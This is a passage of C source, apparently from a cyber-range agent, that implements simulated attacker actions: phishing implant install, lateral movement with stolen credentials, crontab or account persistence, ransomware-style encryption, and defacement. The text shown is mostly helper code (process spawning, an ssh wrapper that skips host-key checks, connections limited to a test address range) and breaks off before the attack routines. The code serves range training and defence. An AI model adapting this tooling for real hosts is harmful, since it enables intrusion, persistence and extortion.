/* agent_act_host — the attacker actions with effects on the actor host
 * (agents/PROTOCOL.md, "Actions"; the contract is agent_action.h).
 *
 * They run in the `--run-action` child, so blocking is fine, but every
 * loop, read and child process is bounded (files, bytes, time).  Every file
 * they touch is q->root + its absolute path, so the unit tests run them in
 * a temporary folder; /proc (processes, sockets) is the kernel's and is
 * read as it is.
 *
 *   phish.open           the user's mail client fetches the mailbox from
 *                        the mail server over ssh (or reads it locally),
 *                        the attachment is saved in ~/Downloads (or the
 *                        link is downloaded through the proxy) and the
 *                        implant is installed at ACT_IMPLANT_PATH
 *   lateral.move         dbclient with stolen credentials: the implant is
 *                        streamed over the session, checked with ls -l and
 *                        started (when a C2 is known)
 *   persistence          root crontab entry running the implant, or a new
 *                        local account (the image's adduser and chpasswd)
 *   impact.encrypt       XChaCha20 (libsodium) in place, *.locked, ransom
 *                        note; a recovery copy under /srv/backup always
 *                        remains
 *   impact.service_stop  kills the process group in
 *                        /run/cyrange/services/NAME.pid, checks the ports
 *   impact.deface        replaces a web page (recovery copy as above)
 */
#include "agent_action.h"

#include <arpa/inet.h>
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <linux/tcp.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sodium.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* ---- limits and places ---------------------------------------------------- */

#define HP_HOST_ENV "/etc/cyrange/host.env"
#define HP_SERVICES_DIR ACT_RUN_DIR "/services"
#define HP_CRONTABS "/var/spool/cron/crontabs"
#define HP_WEB_ROOT "/srv/www"
#define HP_BACKUP "/srv/backup"
#define HP_MAIL_PROFILE ".mailclient" /* in the user's home, see images README */
#define HP_NOTE_NAME "README-RESTORE-FILES.txt"
#define HP_DEFAULT_PATH "/usr/sbin:/usr/bin:/sbin:/bin"

#define HP_MAX_MAILBOX (16u * 1024 * 1024)  /* mailbox read or fetched */
#define HP_MAX_ATTACH (10u * 1024 * 1024)   /* attachment or download saved */
#define HP_MAX_IMPLANT (64u * 1024 * 1024)  /* /proc/self/exe copied */
#define HP_MAX_COPY (256ull * 1024 * 1024)  /* one backup copy */
#define HP_MAX_MESSAGES 10000               /* messages looked at in a mailbox */
#define HP_MAX_PARTS 64                     /* MIME parts looked at */
#define HP_MAX_DEPTH 16                     /* folder depth walked */
#define HP_MAX_ENTRIES 100000               /* directory entries looked at */
#define HP_FULL_ENCRYPT (16u * 1024 * 1024) /* larger files: the head only */
#define HP_PARTIAL_ENCRYPT (1u * 1024 * 1024)
#define HP_SAMPLE 20                        /* paths listed in evidence */
#define HP_MAX_PROCS 65536                  /* /proc entries looked at */
#define HP_SSH_TIMEOUT_MS 120000
#define HP_HTTP_TIMEOUT_MS 20000

/* Trailer after each encrypted file, as real ransomware leaves one: magic
 * and the per-file nonce, so the format is recognisable in a hex dump. */
#define HP_LOCK_MAGIC "CYRLOCK1"

/* ---- small helpers -------------------------------------------------------- */

static void hp_detail(act_result *r, const char *fmt, ...)
    __attribute__((format(printf, 2, 3)));

static void hp_detail(act_result *r, const char *fmt, ...)
{
    va_list ap;

    va_start(ap, fmt);
    vsnprintf(r->detail, sizeof(r->detail), fmt, ap);
    va_end(ap);
}

static json_t *hp_ev(act_result *r)
{
    if (r->evidence == NULL)
        r->evidence = json_object();
    return r->evidence;
}

static void hp_ev_str(act_result *r, const char *k, const char *v)
{
    json_t *e = hp_ev(r);

    if (e != NULL && v != NULL)
        json_object_set_new(e, k, json_string(v));
}

static void hp_ev_int(act_result *r, const char *k, long long v)
{
    json_t *e = hp_ev(r);

    if (e != NULL)
        json_object_set_new(e, k, json_integer((json_int_t)v));
}

static void hp_ev_bool(act_result *r, const char *k, int v)
{
    json_t *e = hp_ev(r);

    if (e != NULL)
        json_object_set_new(e, k, json_boolean(v));
}

static const char *hp_str(const act_req *q, const char *name, const char *dflt)
{
    const json_t *v = q->params ? json_object_get(q->params, name) : NULL;

    return json_is_string(v) ? json_string_value(v) : dflt;
}

static long long hp_int(const act_req *q, const char *name, long long dflt)
{
    const json_t *v = q->params ? json_object_get(q->params, name) : NULL;

    return json_is_integer(v) ? (long long)json_integer_value(v) : dflt;
}

static int hp_bool(const act_req *q, const char *name, int dflt)
{
    const json_t *v = q->params ? json_object_get(q->params, name) : NULL;

    return json_is_boolean(v) ? json_is_true(v) : dflt;
}

static int hp_path(const act_req *q, const char *abs, char *out, size_t len)
{
    int n = snprintf(out, len, "%s%s", q->root ? q->root : "", abs);

    return (n < 0 || (size_t)n >= len) ? -1 : 0;
}

static long long hp_now_ms(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void hp_sleep_ms(int ms)
{
    struct timespec ts = {ms / 1000, (long)(ms % 1000) * 1000000L};

    while (nanosleep(&ts, &ts) < 0 && errno == EINTR) {
    }
}

/* Time left for a child process: cap, or less when the parent's deadline
 * comes sooner (keeping a few seconds to report). */
static int hp_budget_ms(const act_req *q, int cap)
{
    int left;

    if (q->deadline_ms <= 0)
        return cap;
    left = q->deadline_ms - (q->deadline_ms / 5 < 3000 ? q->deadline_ms / 5 : 3000);
    if (left < 500)
        left = 500;
    return left < cap ? left : cap;
}

/* Account, group and file-name safe word: letters, digits, '.', '_', '-',
 * not starting with '-' or '.'. */
static int hp_word_ok(const char *s, size_t max)
{
    size_t n;

    if (s == NULL || s[0] == '\0' || s[0] == '-' || s[0] == '.')
        return 0;
    for (n = 0; s[n]; n++)
        if (!isalnum((unsigned char)s[n]) && s[n] != '.' && s[n] != '_' && s[n] != '-')
            return 0;
    return n <= max;
}

/* An absolute path without "." or ".." components, "//" or control
 * characters. */
static int hp_abs_ok(const char *p)
{
    const char *c;

    if (p == NULL || p[0] != '/' || strlen(p) >= 1024)
        return 0;
    for (c = p; *c; c++)
        if ((unsigned char)*c < 0x20 || *c == 0x7f)
            return 0;
    for (c = p; *c; ) {
        const char *e;
        size_t n;
        c++;
        e = strchr(c, '/');
        n = e ? (size_t)(e - c) : strlen(c);
        if ((n == 0 && e != NULL) || (n == 1 && c[0] == '.') ||
            (n == 2 && c[0] == '.' && c[1] == '.'))
            return 0;
        if (e == NULL)
            break;
        c = e;
    }
    return 1;
}

/* 1 when path is dir or inside it (both absolute, dir without a trailing
 * slash unless it is "/"). */
static int hp_under(const char *path, const char *dir)
{
    size_t n = strlen(dir);

    if (strcmp(dir, "/") == 0)
        return 1;
    return strncmp(path, dir, n) == 0 && (path[n] == '\0' || path[n] == '/');
}

/* Single quotes for sh: ' becomes '\''.  Returns 0, -1 when out is short. */
static int hp_sh_quote(const char *s, char *out, size_t len)
{
    size_t o = 0;

    if (len < 3)
        return -1;
    out[o++] = '\'';
    for (; *s; s++) {
        if (*s == '\'') {
            if (o + 5 >= len)
                return -1;
            memcpy(out + o, "'\\''", 4);
            o += 4;
        } else {
            if (o + 2 >= len)
                return -1;
            out[o++] = *s;
        }
    }
    out[o++] = '\'';
    out[o] = '\0';
    return 0;
}

/* ---- files ------------------------------------------------------------------ */

/* The whole file, NUL-terminated (malloc'd), or NULL: errno EFBIG when it
 * is larger than max. */
static char *hp_read_file(const char *path, size_t max, size_t *len)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    size_t n = 0, cap = 65536;
    char *buf = NULL;

    if (fd < 0)
        return NULL;
    buf = malloc(cap + 1);
    if (buf == NULL)
        goto fail;
    for (;;) {
        ssize_t k;
        if (n == cap) {
            char *nb;
            if (cap >= max) {
                /* One more byte tells "exactly max" from "larger". */
                char c;
                k = read(fd, &c, 1);
                if (k < 0 && errno == EINTR)
                    continue;
                if (k > 0) {
                    errno = EFBIG;
                    goto fail;
                }
                break;
            }
            cap = cap * 2 > max ? max : cap * 2;
            nb = realloc(buf, cap + 1);
            if (nb == NULL)
                goto fail;
            buf = nb;
        }
        k = read(fd, buf + n, cap - n);
        if (k < 0 && errno == EINTR)
            continue;
        if (k < 0)
            goto fail;
        if (k == 0)
            break;
        n += (size_t)k;
    }
    close(fd);
    buf[n] = '\0';
    if (len)
        *len = n;
    return buf;
fail: {
        int e = errno;
        free(buf);
        close(fd);
        errno = e;
        return NULL;
    }
}

static int hp_write_all(int fd, const void *data, size_t len)
{
    const char *p = data;

    while (len > 0) {
        ssize_t k = write(fd, p, len);
        if (k < 0 && errno == EINTR)
            continue;
        if (k <= 0)
            return -1;
        p += k;
        len -= (size_t)k;
    }
    return 0;
}

/* mkdir -p; new folders get mode and, when uid != -1, that owner. */
static int hp_mkdirs(const char *path, mode_t mode, uid_t uid, gid_t gid)
{
    char tmp[PATH_MAX];
    size_t n = strlen(path);

    if (n == 0 || n >= sizeof(tmp))
        return -1;
    memcpy(tmp, path, n + 1);
    for (char *p = tmp + 1;; p++) {
        char c = *p;
        if (c != '/' && c != '\0')
            continue;
        *p = '\0';
        if (mkdir(tmp, mode) == 0) {
            if (uid != (uid_t)-1 && chown(tmp, uid, gid) != 0) {
                /* keep going: the folder is there */
            }
        } else if (errno != EEXIST) {
            return -1;
        }
        if (c == '\0')
            break;
        *p = '/';
    }
    return 0;
}

static int hp_parent_dirs(const char *path, mode_t mode, uid_t uid, gid_t gid)
{
    char dir[PATH_MAX];
    const char *slash = strrchr(path, '/');
    size_t n;

    if (slash == NULL || slash == path)
        return 0;
    n = (size_t)(slash - path);
    if (n >= sizeof(dir))
        return -1;
    memcpy(dir, path, n);
    dir[n] = '\0';
    return hp_mkdirs(dir, mode, uid, gid);
}

/* Write a whole file through a temporary file in the same folder and a
 * rename, so that a reader (or a running program at that path) never sees
 * half of it.  uid (uid_t)-1 keeps the creator as owner. */
static int hp_write_file(const char *path, const void *data, size_t len, mode_t mode,
                         uid_t uid, gid_t gid)
{
    char tmp[PATH_MAX];
    int fd, e;

    if (snprintf(tmp, sizeof(tmp), "%s.%d.tmp", path, (int)getpid()) >= (int)sizeof(tmp))
        return -1;
    fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC | O_NOFOLLOW, 0600);
    if (fd < 0)
        return -1;
    if (hp_write_all(fd, data, len) < 0 || fchmod(fd, mode) < 0 ||
        (uid != (uid_t)-1 && fchown(fd, uid, gid) < 0)) {
        e = errno;
        close(fd);
        unlink(tmp);
        errno = e;
        return -1;
    }
    if (close(fd) < 0 || rename(tmp, path) < 0) {
        e = errno;
        unlink(tmp);
        errno = e;
        return -1;
    }
    return 0;
}

/* Copy a regular file (not following a final symlink), keeping its mode
 * and owner; bounded by HP_MAX_COPY. */
static int hp_copy_file(const char *src, const char *dst)
{
    char tmp[PATH_MAX], buf[65536];
    struct stat st;
    unsigned long long total = 0;
    int in = -1, out = -1, rc = -1, e = 0;

    if (snprintf(tmp, sizeof(tmp), "%s.%d.tmp", dst, (int)getpid()) >= (int)sizeof(tmp))
        return -1;
    in = open(src, O_RDONLY | O_CLOEXEC | O_NOFOLLOW);
    if (in < 0 || fstat(in, &st) < 0 || !S_ISREG(st.st_mode))
        goto done;
    out = open(tmp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC | O_NOFOLLOW, 0600);
    if (out < 0)
        goto done;
    for (;;) {
        ssize_t k = read(in, buf, sizeof(buf));
        if (k < 0 && errno == EINTR)
            continue;
        if (k < 0)
            goto done;
        if (k == 0)
            break;
        total += (unsigned long long)k;
        if (total > HP_MAX_COPY) {
            errno = EFBIG;
            goto done;
        }
        if (hp_write_all(out, buf, (size_t)k) < 0)
            goto done;
    }
    if (fchmod(out, st.st_mode & 07777) < 0)
        goto done;
    if (fchown(out, st.st_uid, st.st_gid) < 0 && errno != EPERM)
        goto done;
    if (close(out) < 0) {
        out = -1;
        goto done;
    }
    out = -1;
    if (rename(tmp, dst) < 0)
        goto done;
    rc = 0;
done:
    e = errno;
    if (in >= 0)
        close(in);
    if (out >= 0)
        close(out);
    if (rc < 0)
        unlink(tmp);
    errno = e;
    return rc;
}

/* ---- KEY='value' files (host.env, the mail profile) ------------------------ */

/* The value of key in a file of sh assignments as the agent writes them
 * (KEY='va'\''lue'; double quotes and backslashes are understood too).
 * malloc'd, or NULL when missing. */
static char *hp_kv_get(const char *path, const char *key)
{
    size_t len = 0, klen = strlen(key), i = 0;
    char *buf = hp_read_file(path, 1u << 20, &len), *val = NULL;

    if (buf == NULL)
        return NULL;
    while (i < len && val == NULL) {
        size_t ks = i, o = 0;
        while (i < len && (buf[i] == ' ' || buf[i] == '\t'))
            i++;
        ks = i;
        while (i < len && (isalnum((unsigned char)buf[i]) || buf[i] == '_'))
            i++;
        if (i < len && buf[i] == '=' && i - ks == klen && memcmp(buf + ks, key, klen) == 0) {
            /* The value is never longer than the rest of the file. */
            val = malloc(len - i + 1);
            if (val == NULL)
                break;
            i++;
            while (i < len && buf[i] != '\n' && buf[i] != ' ' && buf[i] != '\t' &&
                   buf[i] != ';') {
                if (buf[i] == '\'') {
                    for (i++; i < len && buf[i] != '\''; i++)
                        val[o++] = buf[i];
                    i++;
                } else if (buf[i] == '"') {
                    for (i++; i < len && buf[i] != '"'; i++) {
                        if (buf[i] == '\\' && i + 1 < len && strchr("\"\\$`", buf[i + 1]))
                            i++;
                        val[o++] = buf[i];
                    }
                    i++;
                } else if (buf[i] == '\\' && i + 1 < len) {
                    if (buf[i + 1] != '\n')
                        val[o++] = buf[i + 1];
                    i += 2;
                } else {
                    val[o++] = buf[i++];
                }
            }
            val[o] = '\0';
            break;
        }
        /* Skip the rest of the line, including quoted newlines. */
        {
            char quote = 0;
            for (; i < len; i++) {
                if (quote == '\'') {
                    if (buf[i] == quote)
                        quote = 0;
                } else if (buf[i] == '\\') {
                    i++; /* an escaped character, a quote of '\'' too */
                } else if (quote) {
                    if (buf[i] == quote)
                        quote = 0;
                } else if (buf[i] == '\'' || buf[i] == '"') {
                    quote = buf[i];
                } else if (buf[i] == '\n') {
                    i++;
                    break;
                }
            }
        }
    }
    free(buf);
    return val;
}

static char *hp_env_get(const act_req *q, const char *key)
{
    char path[PATH_MAX];

    if (hp_path(q, HP_HOST_ENV, path, sizeof(path)) < 0)
        return NULL;
    return hp_kv_get(path, key);
}

/* The address of a host: a dotted quad as it is, else the host's name in
 * CYR_HOSTS ("name=addr ..."; the agent runs without a resolver, being
 * static).  Only addresses inside 198.18.0.0/15 are returned.  0 or -1. */
static int hp_resolve(const act_req *q, const char *name, char *out, size_t len)
{
    struct in_addr a;
    char *hosts = NULL, *save = NULL, *tok;
    int rc = -1;

    if (inet_pton(AF_INET, name, &a) == 1) {
        snprintf(out, len, "%s", name);
        return (ntohl(a.s_addr) & 0xfffe0000u) == 0xc6120000u ? 0 : -1;
    }
    hosts = hp_env_get(q, "CYR_HOSTS");
    for (tok = hosts ? strtok_r(hosts, " \t\n", &save) : NULL; tok && rc < 0;
         tok = strtok_r(NULL, " \t\n", &save)) {
        char *eq = strchr(tok, '=');
        size_t n = strlen(name);
        /* "mail" also matches "mail.example.test" asked for by full name. */
        if (eq == NULL)
            continue;
        *eq = '\0';
        if (strcasecmp(tok, name) == 0 ||
            (strncasecmp(name, tok, strlen(tok)) == 0 && n > strlen(tok) && name[strlen(tok)] == '.')) {
            if (inet_pton(AF_INET, eq + 1, &a) == 1 &&
                (ntohl(a.s_addr) & 0xfffe0000u) == 0xc6120000u) {
                snprintf(out, len, "%s", eq + 1);
                rc = 0;
            }
        }
    }
    free(hosts);
    return rc;
}

/* ---- accounts --------------------------------------------------------------- */

typedef struct hp_user {
    char name[64];
    uid_t uid;
    gid_t gid;
    char home[256];
    char shell[128];
} hp_user;

/* The account in q->root's /etc/passwd (not the host's: tests). */
static int hp_user_find(const act_req *q, const char *name, hp_user *u)
{
    char path[PATH_MAX], *buf, *line, *save = NULL;
    size_t len;
    int rc = -1;

    if (hp_path(q, "/etc/passwd", path, sizeof(path)) < 0)
        return -1;
    buf = hp_read_file(path, 4u << 20, &len);
    if (buf == NULL)
        return -1;
    for (line = strtok_r(buf, "\n", &save); line && rc < 0; line = strtok_r(NULL, "\n", &save)) {
        char *f[7];
        int nf = 0;
        char *p = line;
        f[nf++] = p;
        while (nf < 7 && (p = strchr(p, ':')) != NULL) {
            *p++ = '\0';
            f[nf++] = p;
        }
        if (nf < 7 || strcmp(f[0], name) != 0)
            continue;
        snprintf(u->name, sizeof(u->name), "%s", f[0]);
        u->uid = (uid_t)strtoul(f[2], NULL, 10);
        u->gid = (gid_t)strtoul(f[3], NULL, 10);
        snprintf(u->home, sizeof(u->home), "%s", f[5]);
        snprintf(u->shell, sizeof(u->shell), "%s", f[6]);
        rc = 0;
    }
    free(buf);
    return rc;
}

/* ---- child processes -------------------------------------------------------- */

typedef struct hp_proc {
    /* in */
    const char *const *argv;  /* argv[0] looked up in PATH without a '/' */
    const char *const *env;   /* NULL: this process's environment */
    const hp_user *as;        /* NULL: keep our uid; else drop to it */
    int fd3;                  /* -1, or a descriptor the child gets as fd 3 */
    const void *in;
    size_t in_len;
    size_t out_max;           /* stdout kept (the rest is read and dropped) */
    int timeout_ms;
    /* out */
    char *out;                /* malloc'd, NUL-terminated */
    size_t out_len;
    int out_truncated;
    char err[2048];           /* stderr, truncated */
    size_t err_len;
    int status;               /* wait status */
    int timed_out;
} hp_proc;

static int hp_find_prog(const char *name, char *out, size_t len)
{
    const char *path = getenv("PATH");
    char buf[4096], *save = NULL, *dir;

    if (strchr(name, '/') != NULL) {
        snprintf(out, len, "%s", name);
        return access(out, X_OK);
    }
    snprintf(buf, sizeof(buf), "%s", path && *path ? path : HP_DEFAULT_PATH);
    for (dir = strtok_r(buf, ":", &save); dir; dir = strtok_r(NULL, ":", &save)) {
        if (snprintf(out, len, "%s/%s", dir, name) < (int)len && access(out, X_OK) == 0)
            return 0;
    }
    return -1;
}

static void hp_proc_free(hp_proc *p)
{
    free(p->out);
    p->out = NULL;
}

/* Run a program to its end (or its timeout: then its whole process group
 * is killed), feeding stdin and collecting stdout and stderr.  The child
 * leads its own process group, which is killed when it exits, so helpers
 * it left behind (dbclient's proxy command) go too.  0 when it ran, -1
 * with why when it could not be started. */
static int hp_proc_run(hp_proc *p, char *why, size_t wlen)
{
    char prog[PATH_MAX];
    int pin[2] = {-1, -1}, pout[2] = {-1, -1}, perr[2] = {-1, -1};
    size_t in_off = 0, cap = 0;
    long long deadline, exited_at = 0;
    pid_t pid;
    int exited = 0, status = 0;

    p->out = NULL;
    p->out_len = 0;
    p->out_truncated = 0;
    p->err[0] = '\0';
    p->err_len = 0;
    p->status = 0;
    p->timed_out = 0;
    if (hp_find_prog(p->argv[0], prog, sizeof(prog)) < 0) {
        snprintf(why, wlen, "%s: not found", p->argv[0]);
        return -1;
    }
    if (pipe2(pin, O_CLOEXEC) < 0 || pipe2(pout, O_CLOEXEC) < 0 || pipe2(perr, O_CLOEXEC) < 0) {
        snprintf(why, wlen, "pipe: %s", strerror(errno));
        goto fail;
    }
    pid = fork();
    if (pid < 0) {
        snprintf(why, wlen, "fork: %s", strerror(errno));
        goto fail;
    }
    if (pid == 0) {
        sigset_t none;
        int lowest = 3;
        setpgid(0, 0);
        sigemptyset(&none);
        sigprocmask(SIG_SETMASK, &none, NULL);
        signal(SIGPIPE, SIG_DFL);
        if (p->fd3 >= 0) {
            if (p->fd3 == 3)
                fcntl(3, F_SETFD, 0);
            else if (dup2(p->fd3, 3) < 0)
                _exit(126);
            lowest = 4;
        }
        if (dup2(pin[0], 0) < 0 || dup2(pout[1], 1) < 0 || dup2(perr[1], 2) < 0)
            _exit(126);
        close_range((unsigned)lowest, ~0U, 0);
        if (p->as != NULL) {
            if (setgroups(1, &p->as->gid) < 0 || setgid(p->as->gid) < 0 ||
                setuid(p->as->uid) < 0) {
                dprintf(2, "cannot become %s: %s\n", p->as->name, strerror(errno));
                _exit(126);
            }
            if (chdir(p->as->home) < 0 && chdir("/") < 0)
                _exit(126);
        }
        execve(prog, (char *const *)p->argv, p->env ? (char *const *)p->env : environ);
        dprintf(2, "%s: %s\n", prog, strerror(errno));
        _exit(127);
    }
    close(pin[0]);
    close(pout[1]);
    close(perr[1]);
    pin[0] = pout[1] = perr[1] = -1;
    fcntl(pin[1], F_SETFL, O_NONBLOCK);
    fcntl(pout[0], F_SETFL, O_NONBLOCK);
    fcntl(perr[0], F_SETFL, O_NONBLOCK);
    if (p->in_len == 0) {
        close(pin[1]);
        pin[1] = -1;
    }
    deadline = hp_now_ms() + p->timeout_ms;
    for (;;) {
        struct pollfd fds[3];
        int nf = 0, wait_ms;
        long long now = hp_now_ms();

        if (!exited && waitpid(pid, &status, WNOHANG) == pid) {
            exited = 1;
            exited_at = now;
        }
        /* After the exit, output still in the pipes is read for a moment;
         * a grandchild holding them open is not waited for. */
        if ((pout[0] < 0 && perr[0] < 0 && exited) || (exited && now - exited_at > 300))
            break;
        if (now >= deadline) {
            kill(-pid, SIGKILL);
            kill(pid, SIGKILL);
            p->timed_out = 1;
            break;
        }
        if (pin[1] >= 0) {
            fds[nf].fd = pin[1];
            fds[nf++].events = POLLOUT;
        }
        if (pout[0] >= 0) {
            fds[nf].fd = pout[0];
            fds[nf++].events = POLLIN;
        }
        if (perr[0] >= 0) {
            fds[nf].fd = perr[0];
            fds[nf++].events = POLLIN;
        }
        wait_ms = (int)(deadline - now);
        if (wait_ms > 50)
            wait_ms = 50;
        if (poll(fds, (nfds_t)nf, wait_ms) < 0 && errno != EINTR)
            break;
        if (pin[1] >= 0) {
            ssize_t k = write(pin[1], (const char *)p->in + in_off, p->in_len - in_off);
            if (k > 0)
                in_off += (size_t)k;
            if ((k < 0 && errno != EAGAIN && errno != EINTR) || in_off == p->in_len) {
                close(pin[1]);
                pin[1] = -1;
            }
        }
        while (pout[0] >= 0) {
            char buf[65536];
            ssize_t k = read(pout[0], buf, sizeof(buf));
            if (k < 0 && errno == EINTR)
                continue;
            if (k < 0 && errno == EAGAIN)
                break;
            if (k <= 0) {
                close(pout[0]);
                pout[0] = -1;
                break;
            }
            if (p->out_len + (size_t)k > p->out_max) {
                p->out_truncated = 1;
                k = (ssize_t)(p->out_max - p->out_len);
            }
            if (k > 0) {
                if (p->out_len + (size_t)k + 1 > cap) {
                    size_t ncap = cap ? cap : 65536;
                    char *nb;
                    while (ncap < p->out_len + (size_t)k + 1)
                        ncap *= 2;
                    nb = realloc(p->out, ncap);
                    if (nb == NULL) {
                        p->out_truncated = 1;
                        break;
                    }
                    p->out = nb;
                    cap = ncap;
                }
                memcpy(p->out + p->out_len, buf, (size_t)k);
                p->out_len += (size_t)k;
            }
        }
        while (perr[0] >= 0) {
            char buf[4096];
            ssize_t k = read(perr[0], buf, sizeof(buf));
            size_t room = sizeof(p->err) - 1 - p->err_len;
            if (k < 0 && errno == EINTR)
                continue;
            if (k < 0 && errno == EAGAIN)
                break;
            if (k <= 0) {
                close(perr[0]);
                perr[0] = -1;
                break;
            }
            if ((size_t)k < room)
                room = (size_t)k;
            memcpy(p->err + p->err_len, buf, room);
            p->err_len += room;
            p->err[p->err_len] = '\0';
        }
    }
    /* The group goes: dbclient's proxy command, a stray grandchild. */
    kill(-pid, SIGKILL);
    if (!exited) {
        if (!p->timed_out)
            kill(pid, SIGKILL);
        while (waitpid(pid, &status, 0) < 0 && errno == EINTR) {
        }
    }
    p->status = status;
    for (int i = 0; i < 2; i++) {
        if (pin[i] >= 0)
            close(pin[i]);
        if (pout[i] >= 0)
            close(pout[i]);
        if (perr[i] >= 0)
            close(perr[i]);
    }
    if (p->out == NULL)
        p->out = calloc(1, 1);
    else
        p->out[p->out_len] = '\0';
    return 0;
fail:
    for (int i = 0; i < 2; i++) {
        if (pin[i] >= 0)
            close(pin[i]);
        if (pout[i] >= 0)
            close(pout[i]);
        if (perr[i] >= 0)
            close(perr[i]);
    }
    return -1;
}

/* The first line of a program's stderr that says something, printable,
 * for a detail (dbclient's "Caution, skipping hostkey check" says
 * nothing: -y -y asked for that). */
static void hp_first_line(const char *s, char *out, size_t len)
{
    size_t o = 0;

    for (int lines = 0; lines < 64; lines++) {
        while (*s == '\n' || *s == '\r')
            s++;
        if (strncmp(s, "dbclient: Caution", 17) != 0)
            break;
        s += strcspn(s, "\n");
    }
    for (; *s && *s != '\n' && o + 1 < len; s++)
        out[o++] = ((unsigned char)*s >= 0x20 && (unsigned char)*s < 0x7f) ? *s : '?';
    out[o] = '\0';
}

/* ---- TCP connections and flows ------------------------------------------------ */

typedef struct hp_conn {
    int fd;
    char src[INET_ADDRSTRLEN];
    int sport;
    char dst[INET_ADDRSTRLEN];
    int dport;
} hp_conn;

/* Connect to addr:port (inside 198.18.0.0/15 only) within timeout_ms. */
static int hp_connect(const char *addr, int port, int timeout_ms, hp_conn *c, char *why,
                      size_t wlen)
{
    struct sockaddr_in sa;
    socklen_t sl = sizeof(sa);
    struct pollfd pfd;
    int err = 0, fl;

    memset(c, 0, sizeof(*c));
    c->fd = -1;
    memset(&sa, 0, sizeof(sa));
    sa.sin_family = AF_INET;
    sa.sin_port = htons((uint16_t)port);
    if (inet_pton(AF_INET, addr, &sa.sin_addr) != 1 ||
        (ntohl(sa.sin_addr.s_addr) & 0xfffe0000u) != 0xc6120000u) {
        snprintf(why, wlen, "refused: %s is not an address inside 198.18.0.0/15", addr);
        return -1;
    }
    c->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (c->fd < 0) {
        snprintf(why, wlen, "socket: %s", strerror(errno));
        return -1;
    }
    if (connect(c->fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
        if (errno != EINPROGRESS) {
            err = errno;
        } else {
            pfd.fd = c->fd;
            pfd.events = POLLOUT;
            int n;
            while ((n = poll(&pfd, 1, timeout_ms)) < 0 && errno == EINTR) {
            }
            if (n == 0) {
                err = ETIMEDOUT;
            } else {
                sl = sizeof(err);
                if (getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &sl) < 0)
                    err = errno;
            }
        }
    }
    if (err != 0) {
        snprintf(why, wlen, "connect %s:%d: %s", addr, port, strerror(err));
        close(c->fd);
        c->fd = -1;
        return -1;
    }
    fl = fcntl(c->fd, F_GETFL);
    fcntl(c->fd, F_SETFL, fl & ~O_NONBLOCK);
    sl = sizeof(sa);
    if (getsockname(c->fd, (struct sockaddr *)&sa, &sl) == 0) {
        inet_ntop(AF_INET, &sa.sin_addr, c->src, sizeof(c->src));
        c->sport = ntohs(sa.sin_port);
    }
    snprintf(c->dst, sizeof(c->dst), "%s", addr);
    c->dport = port;
    return 0;
}

/* Record the connection as a flow (segments and payload bytes both ways,
 * from the kernel's TCP_INFO) and close it. */
static void hp_conn_close(hp_conn *c, act_result *r)
{
    struct tcp_info ti;
    socklen_t sl = sizeof(ti);
    long long packets = 0, bytes = 0;

    if (c->fd < 0)
        return;
    memset(&ti, 0, sizeof(ti));
    if (getsockopt(c->fd, IPPROTO_TCP, TCP_INFO, &ti, &sl) == 0) {
        packets = (long long)ti.tcpi_segs_in + (long long)ti.tcpi_segs_out;
        bytes = (long long)ti.tcpi_bytes_acked + (long long)ti.tcpi_bytes_received;
    }
    act_flow_add(r, "tcp", c->src, c->sport, c->dst, c->dport, packets, bytes);
    close(c->fd);
    c->fd = -1;
}

/* ---- ssh through dropbear's dbclient --------------------------------------------- */

typedef struct hp_ssh {
    const char *addr;      /* dotted quad */
    int port;
    const char *user;
    const char *password;
    const char *command;   /* run by the remote user's shell */
    const void *in;        /* stdin of the remote command */
    size_t in_len;
    const hp_user *as;     /* local user running dbclient, or NULL */
    size_t out_max;
    int timeout_ms;
} hp_ssh;

/* One ssh session.  The TCP connection is made here and handed to
 * dbclient's proxy command (-J) as fd 3 (Debian's dbclient leaves it open
 * for the command), so the flow's ports and byte counts are known
 * exactly.  0 when the session ran (p->status holds
 * dbclient's, i.e. the remote command's, exit), -1 with why when it could
 * not connect or start.  The flow is recorded either way once connected. */
static int hp_ssh_run(const hp_ssh *s, hp_proc *p, act_result *r, char *why, size_t wlen)
{
    char dest[160], pwenv[1100], homeenv[300], userenv[100], portbuf[16];
    const char *argv[12], *envp[8];
    hp_conn c;
    int rc, n = 0, e = 0;

    if (strlen(s->password) > 1000) {
        snprintf(why, wlen, "password too long");
        return -1;
    }
    if (hp_connect(s->addr, s->port, s->timeout_ms < 10000 ? s->timeout_ms : 10000, &c, why,
                   wlen) < 0)
        return -1;
    snprintf(dest, sizeof(dest), "%s@%s", s->user, s->addr);
    snprintf(portbuf, sizeof(portbuf), "%d", s->port);
    argv[n++] = "dbclient";
    argv[n++] = "-y"; /* twice: no host key check, nothing written to known_hosts */
    argv[n++] = "-y";
    /* The proxy command relays between dbclient and our socket.  dd, not
     * busybox cat: cat copies socket -> pipe with sendfile(), which holds
     * the pipe's lock while it waits for the peer, so dbclient blocks
     * reading that pipe before it can send what the peer waits for (seen
     * in the guests as a stall right after the key exchange began). */
    argv[n++] = "-J";
    argv[n++] = "dd bs=65536 <&3 2>/dev/null & exec dd bs=65536 >&3 2>/dev/null";
    argv[n++] = "-p";
    argv[n++] = portbuf;
    argv[n++] = dest;
    argv[n++] = s->command;
    argv[n] = NULL;
    snprintf(pwenv, sizeof(pwenv), "DROPBEAR_PASSWORD=%s", s->password);
    snprintf(homeenv, sizeof(homeenv), "HOME=%s", s->as ? s->as->home : "/root");
    snprintf(userenv, sizeof(userenv), "USER=%s", s->as ? s->as->name : "root");
    envp[e++] = "PATH=" HP_DEFAULT_PATH;
    envp[e++] = homeenv;
    envp[e++] = userenv;
    envp[e++] = pwenv;
    envp[e] = NULL;
    memset(p, 0, sizeof(*p));
    p->argv = argv;
